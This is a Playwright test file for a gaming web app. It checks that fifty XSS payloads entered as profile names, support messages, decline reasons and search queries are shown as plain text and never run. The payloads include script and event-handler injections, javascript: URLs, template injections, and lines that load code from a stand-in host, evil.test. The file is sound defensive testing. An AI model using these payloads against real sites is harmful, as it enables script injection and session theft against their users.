import { toMoney } from '@golden-acers/contract';
import { bySuite } from '@golden-acers/testing/suite';
import type { BrowserContext, Page } from '@playwright/test';
import { callApi, callApiOrThrow, registerByApi, type SignedInAccount, signInByApi } from './api-client.ts';
import type { Product } from './product.ts';
import { expect, startSignedIn, storeSession, test } from './scenario.ts';

/** The mark that a script leaves if it runs. */
const executionMark = 'ran=1';
/**
 * Each is at most as long as a name may be, and would run in some context: as HTML, an attribute, a URL or a
 * template.
 */
const payloads = [
  `<script>${executionMark}</script>`,
  `</script><script>${executionMark}</script>`,
  `<SCRIPT>${executionMark}</SCRIPT >`,
  `<script src=//evil.test/x.js></script>`,
  `<img src=x onerror=${executionMark}>`,
  `<img/src=x/onerror=${executionMark}>`,
  `"><img src=x onerror=${executionMark}>`,
  `'><img src=x onerror=${executionMark}>`,
  `<svg onload=${executionMark}>`,
  `<svg/onload=${executionMark}//`,
  `<svg><script>${executionMark}</script></svg>`,
  `<svg><animate onbegin=${executionMark} attributeName=x>`,
  `<svg><a xlink:href=javascript:${executionMark}>x</a></svg>`,
  `<body onload=${executionMark}>`,
  `<body onpageshow=${executionMark}>`,
  `<iframe src=javascript:${executionMark}>`,
  `<iframe srcdoc="<script>${executionMark}</script>">`,
  `<object data=javascript:${executionMark}>`,
  `<embed src=javascript:${executionMark}>`,
  `<a href=javascript:${executionMark}>x</a>`,
  `<form action=javascript:${executionMark}><button>x`,
  `<input autofocus onfocus=${executionMark}>`,
  `<select autofocus onfocus=${executionMark}>`,
  `<textarea autofocus onfocus=${executionMark}>`,
  `<details open ontoggle=${executionMark}>`,
  `<video src=x onerror=${executionMark}>`,
  `<audio src=x onerror=${executionMark}>`,
  `<video><source onerror=${executionMark}></video>`,
  `<marquee onstart=${executionMark}>`,
  `<math href=javascript:${executionMark}>x</math>`,
  `<style>@import '//evil.test/x.css'</style>`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<meta http-equiv=refresh content=0;url=//evil.test>`,
  `<base href=//evil.test/>`,
  `<template><script>${executionMark}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${executionMark}>`,
  `<!--><img src=x onerror=${executionMark}>-->`,
  `<![CDATA[<script>${executionMark}</script>]]>`,
  `javascript:${executionMark}`,
  `data:text/html,<script>${executionMark}</script>`,
  `" autofocus onfocus=${executionMark} x="`,
  `' onmouseover=${executionMark} style='position:fixed;inset:0`,
  `\`-${executionMark}-\``,
  `\${${executionMark}}`,
  `{{constructor.constructor('${executionMark}')()}}`,
  `{{count}} $t(common.ok) {{- name}}`,
  `<%= ${executionMark} %>`,
  `&lt;script&gt;${executionMark}&lt;/script&gt;`,
  `&#60;img src=x onerror=${executionMark}&#62;`,
  `%3Cscript%3E${executionMark}%3C/script%3E`,
] as const;

/** A commit's suite shows every fifth of them, each of another kind. */
const shownPayloads = payloads.filter((_payload, place) => place % bySuite(5, 1) === 0);

/** The number of requests that a player can send in ten minutes. */
const concurrentRequests = 20;

const profileOf = ({ user: { username, email } }: SignedInAccount) => ({
  firstName: 'Hostile',
  lastName: 'Texts',
  username,
  email,
  phone: '+1 555 010 2030',
  country: null,
  currency: 'USD',
});

const changeProfile = (product: Product, { token }: SignedInAccount, body: object) =>
  callApi<{ user: SignedInAccount['user'] }>(product, 'PUT /user/profile', { token, body });

/** Records effects that a text must never cause: a dialog, the mark, a request to another site. */
function collectScriptEffects(context: BrowserContext): string[] {
  const effects: string[] = [];
  context.on('dialog', (dialog) => {
    effects.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on('request', (request) => {
    if (new URL(request.url()).hostname === 'evil.test') effects.push(`request ${request.url()}`);
  });
  return effects;
}

async function expectNothingRan(page: Page, effects: readonly string[]): Promise<void> {
  expect(await page.evaluate('typeof ran')).toBe('undefined');
  expect(effects).toEqual([]);
}

test('there are fifty script payloads', () => {
  expect(new Set(payloads).size).toBe(50);
});

test.describe('each script payload', () => {
  test.use({ actor: 'player' });

  test('is shown as plain text on every page when it is a name', async ({
    page,
    context,
    product,
    account,
  }) => {
    const effects = collectScriptEffects(context);
    await page.goto('/dashboard');
    // A second tab, which notifies this one of each change.
    const other = await context.newPage();
    await other.goto('/profile');
    for (const payload of shownPayloads) {
      const names = { firstName: payload, lastName: payload };
      const { status, body } = await changeProfile(product, account, { ...profileOf(account), ...names });
      expect(status, payload).toBe(200);
      await storeSession(other, { ...account, user: body.data.user });
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(`Welcome, ${payload}!`);
      await expect(page.getByRole('main').getByText(`${payload} ${payload}`).first()).toBeVisible();
      await expectNothingRan(page, effects);
    }
    await other.close();
    await page.goto('/profile');
    const last = shownPayloads.at(-1) ?? '';
    await expect(page.getByRole('main').getByText(`${last} ${last}`).first()).toBeVisible();
    await expectNothingRan(page, effects);
  });

  test('is refused as username, email and phone number', async ({ product, account }) => {
    for (const payload of shownPayloads) {
      for (const field of ['username', 'email', 'phone', 'country', 'currency']) {
        const { status } = await changeProfile(product, account, { ...profileOf(account), [field]: payload });
        expect(status, `${field}: ${payload}`).toBe(422);
      }
    }
  });

  test('is shown as plain text on both sides when it is a message to the agent or its reply', async ({
    page,
    context,
    product,
    account,
    browser,
  }) => {
    const effects = collectScriptEffects(context);
    const agent = await signInByApi(product, product.credentialsOf('agent'));
    const office = await browser.newContext();
    const officeEffects = collectScriptEffects(office);
    const consolePage = await office.newPage();
    await startSignedIn(office, product, agent);
    let requester = account;
    await page.goto('/terms');
    for (const [place, message] of shownPayloads.entries()) {
      if (place > 0 && place % concurrentRequests === 0) {
        requester = await registerByApi(product);
        await storeSession(page, requester);
      }
      const { id } = await callApiOrThrow<{ id: string }>(product, 'POST /fortune-panda-user/requests', {
        token: requester.token,
        body: { kind: 'recharge', amount: toMoney(2_000n), message },
      });
      if (place % 10 === 9) {
        await consolePage.goto('/adminacers?view=requests');
        await expect(consolePage.getByRole('row').filter({ hasText: message })).toHaveCount(1);
        await expectNothingRan(consolePage, officeEffects);
      }
      await callApiOrThrow(product, `POST /fortune-panda/requests/${id}/decline`, {
        token: agent.token,
        body: { reason: message },
      });
      // Five are shown at a time.
      if (place % 5 !== 4) continue;
      await page.goto('/wallet');
      for (const shown of shownPayloads.slice(place - 4, place + 1)) {
        // The text is found twice: as the player's and as the agent's.
        await expect(page.getByRole('main').getByText(shown).nth(1)).toBeVisible();
      }
      await expectNothingRan(page, effects);
    }
    await office.close();
  });

  test('is used as a search text only when it is in the URL of a search', async ({ page, context }) => {
    const effects = collectScriptEffects(context);
    for (const payload of payloads.slice(0, bySuite(2, 10))) {
      await page.goto(`/games?${new URLSearchParams({ q: payload })}`);
      await expect(page.getByRole('main').getByText(payload).first()).toBeVisible();
      await expectNothingRan(page, effects);
    }
  });
});
